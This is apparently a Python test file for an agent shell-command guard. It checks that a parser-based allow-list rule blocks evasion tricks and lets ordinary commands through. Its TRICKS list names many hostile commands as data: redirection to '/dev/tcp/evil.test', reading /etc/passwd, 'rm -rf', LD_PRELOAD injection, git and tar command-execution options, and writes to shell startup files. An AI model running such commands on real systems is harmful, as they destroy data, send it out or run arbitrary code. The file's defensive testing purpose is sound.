"""The shell rule: what a prefix or a grep lets through, a parser must not; plain commands must pass."""

from __future__ import annotations

import subprocess
import sys
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fcguard.errors import ConfigurationError
from fcguard.rules.command import shell

ALLOW = [
    *(
        "git status",
        "git log",
        "git diff",
        "git show",
        "git commit",
        "git clone",
        "echo",
        "ls",
        "cat",
        "grep",
        "head",
        "tail",
        "wc",
    ),
    *(
        "sort",
        "find",
        "pwd",
        "cd",
        "tar",
        "curl",
        "rg",
        "npm run test:*",
        "python -m pytest",
        "sed --sandbox -n",
        "true",
        "printf",
        "date",
    ),
]

TRICKS = [
    "git status && rm -rf ./build",
    "echo hi\nrm -rf ./build",
    "echo x > ~/.profile",
    "ls <(rm -rf ./build)",
    "git status; rm -rf build",
    "git status & rm -rf build",
    "git status || rm -rf build",
    "git status | sh",
    "git status |& sh",
    "echo `id`",
    'echo "`id`"',
    "echo $(id)",
    'echo "$(id)"',
    'echo "a${IFS}b"',
    "echo $HOME",
    "echo ${HOME:-x}",
    "echo $((1+1))",
    "echo $'\\x41'",
    'echo $"x"',
    "git statusx",
    "git stash",
    "gitstatus",
    "lsof",
    "ls\trm; rm",
    "ls\r\nrm -rf build",
    "ls\x00rm",
    "ls >> ~/.bashrc",
    "ls 2> error.log",
    "ls >&3",
    "ls > /dev/tcp/evil.test/80",
    "cat < /etc/passwd",
    "cat <<EOF\n$(id)\nEOF",
    "cat <<< $(id)",
    "(rm -rf build)",
    "(ls)",
    "{ ls; rm x; }",
    "if true; then rm x; fi",
    "while true; do ls; done",
    "for f in a b; do ls; done",
    "f() { rm x; }; f",
    "case a in a) rm x;; esac",
    "[[ -f x ]] && rm x",
    "LD_PRELOAD=/tmp/x.so ls",
    "PATH=/tmp ls",
    "GIT_SSH_COMMAND=id git clone x",
    "A=1",
    "export PATH=/tmp",
    "alias ls=rm",
    "eval ls",
    "exec ls",
    "command ls",
    "sudo ls",
    "env ls",
    "bash -c ls",
    "xargs ls",
    "./ls",
    "/tmp/ls",
    "../git status",
    "l\\s\n rm x",
    "r'm' x",
    "'rm' x",
    '"rm" x',
    "r\\m x",
    "ls {a,b}",
    "find . -{exec,x} id ';'",
    "ls # && comment",
    "ls \\\nrm\\\n; rm x",
    "l\\\ns; r\\\nm x",
    "find . -exec rm {} +",
    "find . -delete",
    "find . '-exec' id ';'",
    "find . -ex''ec id ';'",
    "find . -fprintf x y",
    "git log --output=/tmp/x",
    "git log --outp=/tmp/x",
    "git diff --ext-diff",
    "git clone -c core.sshCommand=id x",
    "git -c core.pager=id status",
    "git clone --upload-pack=id x",
    "git clone ext::id",
    "sort -o /etc/x a",
    "sort -no /etc/x a",
    "sort --compress-program=id a",
    "tar cf x.tar --checkpoint=1 --checkpoint-action=exec=id a",
    "tar xf x --to-command=id",
    "tar -I id -xf x",
    "tar cf x.tar *",
    "curl -o /etc/x http://a.test",
    "curl -sO http://a.test",
    "curl -K config",
    "rg --pre id x",
    "npm run deploy",
    "npm run test:unit && npm run deploy",
    "python -m pytest tests",
    "python -c 'import os'",
    "sed -n 1p x",
    "sed --sandbox -n -i x y",
    "date -s 2020-01-01",
    "ls 'open",
    'ls "open',
    "ls )",
    "ls | | cat",
    "",
    "   ",
    "# ls",
    "ls\u00a0-la",
    "ls\u200b -la",
    "\uff4c\uff53",
    "*",
    "?s",
    "ls && ",
    "! rm x",
    "coproc rm x",
    "time rm x",
]

HARMLESS = [
    "git status",
    "git status --short",
    "  git   status  ",
    "'git' status",
    "git log --oneline -n 5",
    "git log --format='%h %s; %an'",
    "git log --pretty=format:%h",
    "git diff HEAD~1 -- src/main.py",
    "git show HEAD:README.md",
    'git commit -m "fix: rm -rf in the docs && more"',
    "git commit -m 'a; b | c > d'",
    "git commit -m 'it costs $5 (or `less`)'",
    'git commit -m "a \\"quoted\\" word"',
    "echo hi",
    "echo 'rm -rf /'",
    'echo "a && b"',
    "echo a\\ b",
    "echo a\\&b",
    "echo '$HOME'",
    'echo "\\$HOME"',
    "echo 你好，世界",
    "echo hi; echo there",
    "echo hi && echo there || echo where",
    "echo hi\necho there",
    "echo a#b",
    "echo '# no comment'",
    "echo 'a'b\"c\"",
    "echo -n -e x=y a:b 50% @x +1",
    "echo ''",
    "ls",
    "ls -la",
    "ls *.py",
    "ls src/*.[ch]",
    "ls 'a b'",
    "ls ~/projects",
    "ls 2>/dev/null",
    "ls >/dev/null 2>&1",
    "ls \\\n  -la",
    "ls | wc -l",
    "ls -la | sort -r | head -n 3",
    "! ls",
    "cat a.txt b.txt",
    "cat 'file; rm x'",
    "grep -rn 'a|b' src",
    "grep -E '^(a|b)$' src",
    "grep 'pattern' ./*.txt",
    "head -n 5 a.txt",
    "sort -n -k2 a.txt",
    "find . -name '*.py' -type f",
    "find . -maxdepth 2 -newer a",
    "cd src && ls",
    "tar tf x.tar",
    "tar -czf x.tgz src",
    "curl -s https://api.example.test/a?b=c",
    "curl -sS -H 'Accept: text/plain' https://api.example.test",
    "rg -n 'TODO' src",
    "npm run test:unit",
    "npm run test:unit -- --watch=false",
    "python -m pytest",
    "sed --sandbox -n 1,5p a.txt",
    "printf '%s\\n' a",
    "date +%F",
    "true;",
]


@pytest.mark.parametrize("text", TRICKS)
def test_no_trick_gets_through(text: str, make_call: Any) -> None:
    violation = shell("command", allow=ALLOW)(make_call({"command": text}))
    assert violation is not None
    assert (violation.code, violation.next_action) == ("DANGEROUS_OPERATION", None)


@pytest.mark.parametrize("text", HARMLESS)
def test_no_plain_command_is_refused(text: str, make_call: Any) -> None:
    assert shell("command", allow=ALLOW)(make_call({"command": text})) is None


def test_the_tables_are_large_enough() -> None:
    assert len(set(TRICKS)) >= 40
    assert len(set(HARMLESS)) >= 40


def test_a_refusal_can_ask_for_approval(make_call: Any) -> None:
    violation = shell(allow=["ls"], on_refusal="approval")(make_call({"command": "rm x"}))
    assert (violation.code, violation.next_action) == ("APPROVAL_REQUIRED", "request_approval")
    assert "'ls'" in violation.message


@pytest.mark.parametrize("value", [5, True, ["ls"], {"a": 1}, 1.5])
def test_another_type_is_refused(value: Any, make_call: Any) -> None:
    assert shell(allow=["ls"])(make_call({"command": value})).code == "PARAM_INVALID"


def test_a_long_text_is_refused(make_call: Any) -> None:
    assert "longer" in shell(allow=["echo"])(make_call({"command": "echo " + "a" * 9000})).message


@pytest.mark.parametrize(
    "allow", [[], ["env"], ["bash"], ["python3.11"], ["/usr/bin/sudo"], ["ls; rm"], ["ls $(x)"], [""], ["ls >x"], [5]]
)
def test_an_entry_that_is_no_plain_command_is_refused_when_built(allow: Any) -> None:
    with pytest.raises(ConfigurationError, match="shell"):
        shell(allow=allow)


def test_what_a_refusal_does_is_one_of_two() -> None:
    with pytest.raises(ConfigurationError, match="on_refusal"):
        shell(allow=["ls"], on_refusal="ask")  # type: ignore[arg-type]


def test_a_launcher_is_allowed_word_for_word(make_call: Any) -> None:
    rule = shell(allow=["sudo systemctl status nginx"])
    assert rule(make_call({"command": "sudo systemctl status nginx"})) is None
    assert rule(make_call({"command": "sudo systemctl status nginx x"})) is not None
    assert rule(make_call({"command": "sudo systemctl"})) is not None


_PIECES = st.sampled_from(
    [
        "echo",
        "ls",
        "a",
        "rm x",
        " ",
        ";",
        "&&",
        "|",
        "||",
        "&",
        "\n",
        "$",
        "`",
        "(",
        ")",
        "{",
        "}",
        "<",
        ">",
        "'",
        '"',
        "\\",
        "#",
        "~",
        "*",
        "!",
        "=",
        "$(",
    ]
)


@given(text=st.lists(_PIECES, min_size=1, max_size=8).map("".join))
def test_what_passes_runs_only_listed_commands_in_a_real_shell(text: str, make_call: Any) -> None:
    if shell(allow=["echo", "ls"])(make_call({"command": text})) is not None:
        return
    script = "ls() { :; }\n" + text  # a shell in which no other command can be found
    done = subprocess.run(
        ["/bin/bash", "--noprofile", "--norc", "-c", script],
        env={"PATH": "/nonexistent"},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=20,
        check=False,
    )
    assert done.stderr == ""


@pytest.mark.skipif(sys.platform == "win32", reason="needs bash")
def test_the_parser_is_missing() -> None:
    code = (
        "import sys; sys.modules['tree_sitter_bash'] = None\n"
        "from fcguard.rules.command import shell\n"
        "try:\n    shell(allow=['ls'])\n"
        "except ImportError as error:\n    print(error)\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=True)
    assert "pip install 'fcguard[shell]'" in done.stdout
